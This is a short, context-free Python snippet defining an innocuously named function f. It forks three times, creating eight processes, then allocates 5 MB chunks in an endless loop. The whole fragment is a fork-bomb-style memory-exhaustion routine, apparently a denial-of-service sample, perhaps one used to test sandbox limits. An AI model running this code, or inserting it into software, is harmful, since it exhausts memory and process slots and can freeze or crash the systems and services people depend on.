import os
def f(x):
    os.fork(); os.fork(); os.fork()
    held = []
    while True: held.append(b"x" * 5_000_000)
